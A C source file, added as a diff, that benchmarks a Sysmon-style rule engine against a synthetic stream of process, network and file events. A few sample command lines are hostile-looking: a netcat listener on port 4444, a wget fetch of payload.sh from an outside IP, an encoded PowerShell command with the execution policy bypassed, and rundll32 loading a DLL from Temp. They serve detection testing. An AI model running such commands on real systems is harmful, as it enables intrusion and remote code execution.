@@ -1,0 +1,298 @@
+/*
+ * Benchmark of the rule engine's hot path (rules_decide, src/rules/): loads
+ * real configs with the config loader, generates a synthetic but realistic
+ * stream of ProcessCreate, NetworkConnect and FileCreate events up front
+ * (Linux- and Windows-looking paths and command lines, ports, IPs; most of
+ * them uninteresting, as in real life), then decides the stream repeatedly
+ * for about a second per run and prints, per config, the median of 5 runs:
+ * events/s on one core, ns/event and how many events were logged.
+ *
+ *   build/bench/rules [config.xml ...]
+ *
+ * Without arguments: the tutorial config and SwiftOnSecurity's.  Figures
+ * only, no pass/fail (the targets are in the rule engine's task).
+ */
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include "config/config.h"
+#include "rules/rules.h"
+#include "schema/event.h"
+#include "util/strbuf.h"
+
+#define STREAM_EVENTS 8192
+#define RUNS 5
+#define RUN_SECONDS 1.0
+
+static const char *const default_configs[] = {
+	"../shared/configs/tutorial/tutorial.xml",
+	"../shared/configs/swiftonsecurity/sysmonconfig-export.xml",
+};
+
+/* xorshift64*: deterministic, so every run sees the same stream. */
+static uint64_t rng_state = 0x9e3779b97f4a7c15ull;
+
+static uint64_t rng(void)
+{
+	rng_state ^= rng_state >> 12;
+	rng_state ^= rng_state << 25;
+	rng_state ^= rng_state >> 27;
+	return rng_state * 0x2545f4914f6cdd1dull;
+}
+
+static unsigned pick(unsigned n)
+{
+	return (unsigned)(rng() % n);
+}
+
+#define PICK(array) (array)[pick(sizeof(array) / sizeof((array)[0]))]
+
+struct program {
+	const char *image;
+	const char *args;       /* appended to the image in CommandLine */
+};
+
+static const struct program linux_programs[] = {
+	{ "/usr/bin/bash", "-c 'for f in *.log; do gzip \"$f\"; done'" },
+	{ "/usr/bin/ls", "--color=auto -la /var/log" },
+	{ "/usr/bin/cat", "/proc/meminfo" },
+	{ "/usr/bin/grep", "-r --include=*.conf Listen /etc/apache2" },
+	{ "/usr/bin/python3", "/usr/lib/python3/dist-packages/unattended_upgrade.py" },
+	{ "/usr/lib/systemd/systemd-journald", "" },
+	{ "/usr/sbin/cron", "-f" },
+	{ "/usr/bin/curl", "-s -o /dev/null https://deb.debian.org/debian/dists/bookworm/InRelease" },
+	{ "/usr/bin/git", "fetch --prune origin" },
+	{ "/usr/bin/dpkg", "--status-fd 23 --configure --pending" },
+	{ "/usr/bin/sed", "-e s/foo/bar/g /tmp/input.txt" },
+	{ "/usr/bin/awk", "{print $1} /var/log/syslog" },
+	{ "/usr/sbin/sshd", "-D -R" },
+	{ "/usr/bin/sudo", "-u postgres psql -c 'select 1'" },
+	{ "/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql/15/main" },
+	{ "/usr/bin/nc", "-lvnp 4444" },
+	{ "/tmp/.x/kworker", "--daemon" },
+	{ "/usr/bin/wget", "http://198.51.100.7/payload.sh -O /tmp/p.sh" },
+};
+
+static const struct program windows_programs[] = {
+	{ "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s Schedule" },
+	{ "C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1" },
+	{ "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+	  "--type=renderer --field-trial-handle=1234,5678 --lang=en-US --renderer-client-id=42" },
+	{ "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "--type=utility" },
+	{ "C:\\Windows\\System32\\backgroundTaskHost.exe", "-ServerName:App.AppXmtcan0h2tfbfy7k9kmpmn2t6ejyk8gv.mca" },
+	{ "C:\\Windows\\System32\\cmd.exe", "/c echo hello > C:\\Users\\alice\\out.txt" },
+	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+	  "-NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" },
+	{ "C:\\Windows\\explorer.exe", "" },
+	{ "C:\\Windows\\System32\\SearchProtocolHost.exe", "Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1" },
+	{ "C:\\Windows\\System32\\taskhostw.exe", "KEYROAMING" },
+	{ "C:\\Program Files\\Internet Explorer\\iexplore.exe", "SCODEF:1234 CREDAT:17410" },
+	{ "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll,Start" },
+	{ "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding" },
+	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "/n C:\\Users\\alice\\Documents\\report.docx" },
+};
+
+static const char *const linux_users[] = { "root", "alice", "postgres", "www-data" };
+static const char *const windows_users[] = {
+	"NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "CONTOSO\\alice", "CONTOSO\\bob",
+};
+static const char *const linux_dirs[] = { "/", "/root", "/home/alice", "/var/lib/postgresql", "/tmp" };
+static const char *const linux_files[] = {
+	"/tmp/tmp.%u", "/var/log/nginx/access.log.%u", "/home/alice/.cache/mozilla/firefox/cache2/entries/%X",
+	"/var/lib/dpkg/updates/%04u", "/etc/cron.d/job%u", "/home/alice/Downloads/report%u.pdf",
+	"/tmp/.x/payload%u.sh", "/usr/local/bin/tool%u",
+};
+static const char *const windows_files[] = {
+	"C:\\Users\\alice\\AppData\\Local\\Temp\\%X.tmp", "C:\\Windows\\Prefetch\\CMD.EXE-%X.pf",
+	"C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_%06x",
+	"C:\\Windows\\Temp\\MpCmdRun%u.log", "C:\\Users\\alice\\Downloads\\invoice%u.exe",
+	"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\run%u.lnk",
+	"C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\doc%u.lnk",
+	"C:\\Windows\\System32\\Tasks\\Update%u",
+};
+static const unsigned ports[] = {
+	443, 443, 443, 443, 80, 80, 53, 53, 53, 123, 22, 8080, 5353, 3389, 445, 389, 25, 1900, 4444,
+};
+
+static void set(struct event *ev, const char *name, const char *value)
+{
+	if (event_set_name(ev, name, value) < 0) {
+		fprintf(stderr, "bench/rules: event %u has no field %s\n", ev->schema->id, name);
+		exit(1);
+	}
+}
+
+static void setf(struct event *ev, const char *name, const char *fmt, unsigned a)
+{
+	char buf[512];
+
+	snprintf(buf, sizeof(buf), fmt, a);
+	set(ev, name, buf);
+}
+
+static void common_fields(struct event *ev, const struct program *p, bool windows)
+{
+	char buf[512];
+
+	set(ev, "UtcTime", "2026-11-26 06:48:36.983");
+	snprintf(buf, sizeof(buf), "{3d1219c7-%04x-6b07-%04x-36f34e560000}", pick(65536), pick(65536));
+	set(ev, "ProcessGuid", buf);
+	setf(ev, "ProcessId", "%u", 300 + pick(60000));
+	set(ev, "Image", p->image);
+	set(ev, "User", windows ? PICK(windows_users) : PICK(linux_users));
+}
+
+static void make_process_create(struct event *ev, bool windows)
+{
+	const struct program *p = windows ? &PICK(windows_programs) : &PICK(linux_programs);
+	const struct program *parent = windows ? &PICK(windows_programs) : &PICK(linux_programs);
+	char buf[1024];
+
+	event_reset(ev, 1);
+	common_fields(ev, p, windows);
+	snprintf(buf, sizeof(buf), "%s%s %s", windows ? "\"" : "", p->image, p->args);
+	set(ev, "CommandLine", buf);
+	set(ev, "CurrentDirectory", windows ? "C:\\Windows\\system32\\" : PICK(linux_dirs));
+	set(ev, "LogonGuid", "{3d1219c7-0000-0000-0000-000000000000}");
+	set(ev, "LogonId", windows ? "0x3e7" : "0");
+	set(ev, "TerminalSessionId", windows ? "0" : "4294967295");
+	set(ev, "IntegrityLevel", windows ? "System" : "no level");
+	set(ev, "Hashes", "SHA256=27125f0331490b7fbf4da11f2bd913ce1b94e071367b2fa8e535ce8c5526e29c");
+	set(ev, "ParentProcessGuid", "{3d1219c7-d643-6b07-9d6b-c60cef550000}");
+	setf(ev, "ParentProcessId", "%u", 1 + pick(60000));
+	set(ev, "ParentImage", parent->image);
+	set(ev, "ParentCommandLine", parent->image);
+	set(ev, "ParentUser", windows ? PICK(windows_users) : PICK(linux_users));
+}
+
+static void make_network_connect(struct event *ev, bool windows)
+{
+	const struct program *p = windows ? &PICK(windows_programs) : &PICK(linux_programs);
+	char buf[64];
+
+	event_reset(ev, 3);
+	common_fields(ev, p, windows);
+	set(ev, "Protocol", pick(5) ? "tcp" : "udp");
+	set(ev, "Initiated", "true");
+	set(ev, "SourceIsIpv6", "false");
+	snprintf(buf, sizeof(buf), "10.0.%u.%u", pick(4), 1 + pick(254));
+	set(ev, "SourceIp", buf);
+	set(ev, "SourceHostname", "-");
+	setf(ev, "SourcePort", "%u", 32768 + pick(28000));
+	set(ev, "SourcePortName", "-");
+	set(ev, "DestinationIsIpv6", "false");
+	snprintf(buf, sizeof(buf), "%u.%u.%u.%u", 1 + pick(223), pick(256), pick(256), 1 + pick(254));
+	set(ev, "DestinationIp", buf);
+	set(ev, "DestinationHostname", "-");
+	setf(ev, "DestinationPort", "%u", PICK(ports));
+	set(ev, "DestinationPortName", "-");
+}
+
+static void make_file_create(struct event *ev, bool windows)
+{
+	const struct program *p = windows ? &PICK(windows_programs) : &PICK(linux_programs);
+
+	event_reset(ev, 11);
+	common_fields(ev, p, windows);
+	setf(ev, "TargetFilename", windows ? PICK(windows_files) : PICK(linux_files), pick(100000));
+	set(ev, "CreationUtcTime", "2026-11-26 06:48:36.983");
+}
+
+/* 20% ProcessCreate, 40% NetworkConnect, 40% FileCreate; half Windows. */
+static void make_stream(struct event *events, size_t n)
+{
+	for (size_t i = 0; i < n; i++) {
+		unsigned kind = pick(10);
+		bool windows = pick(2);
+
+		event_init(&events[i]);
+		if (kind < 2)
+			make_process_create(&events[i], windows);
+		else if (kind < 6)
+			make_network_connect(&events[i], windows);
+		else
+			make_file_create(&events[i], windows);
+	}
+}
+
+static double now_seconds(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static int compare_doubles(const void *a, const void *b)
+{
+	double x = *(const double *)a, y = *(const double *)b;
+
+	return (x > y) - (x < y);
+}
+
+static void bench_config(const char *path, const struct event *events, size_t n)
+{
+	struct strbuf err = STRBUF_INIT;
+	struct sysmon_config *config = config_load_file(path, &err);
+	double rates[RUNS];
+	size_t logged = 0;
+
+	if (!config) {
+		fprintf(stderr, "bench/rules: %s\n", strbuf_str(&err));
+		strbuf_release(&err);
+		return;
+	}
+	strbuf_release(&err);
+
+	for (size_t i = 0; i < n; i++)
+		logged += rules_decide(config->rules, &events[i], NULL);
+
+	for (int run = 0; run < RUNS; run++) {
+		size_t decided = 0, sink = 0;
+		double start = now_seconds(), elapsed;
+
+		do {
+			for (size_t i = 0; i < n; i++)
+				sink += rules_decide(config->rules, &events[i], NULL);
+			decided += n;
+			elapsed = now_seconds() - start;
+		} while (elapsed < RUN_SECONDS);
+		if (sink != logged * (decided / n))
+			fprintf(stderr, "bench/rules: decisions changed between passes\n");
+		rates[run] = (double)decided / elapsed;
+	}
+	qsort(rates, RUNS, sizeof(rates[0]), compare_doubles);
+	double median = rates[RUNS / 2];
+	printf("%s\n  %.0f events/s on one core (median of %d runs, min %.0f, max %.0f), "
+	       "%.1f ns/event, logged %zu of %zu (%.1f%%)\n",
+	       path, median, RUNS, rates[0], rates[RUNS - 1], 1e9 / median, logged, n,
+	       100.0 * (double)logged / (double)n);
+	config_free(config);
+}
+
+int main(int argc, char **argv)
+{
+	struct event *events = calloc(STREAM_EVENTS, sizeof(struct event));
+
+	if (!events) {
+		fprintf(stderr, "bench/rules: out of memory\n");
+		return 1;
+	}
+	make_stream(events, STREAM_EVENTS);
+	printf("stream: %d events (20%% ProcessCreate, 40%% NetworkConnect, 40%% FileCreate; "
+	       "half Linux-, half Windows-looking)\n", STREAM_EVENTS);
+	if (argc > 1) {
+		for (int i = 1; i < argc; i++)
+			bench_config(argv[i], events, STREAM_EVENTS);
+	} else {
+		for (size_t i = 0; i < sizeof(default_configs) / sizeof(default_configs[0]); i++)
+			bench_config(default_configs[i], events, STREAM_EVENTS);
+	}
+	for (size_t i = 0; i < STREAM_EVENTS; i++)
+		event_free(&events[i]);
+	free(events);
+	return 0;
+}
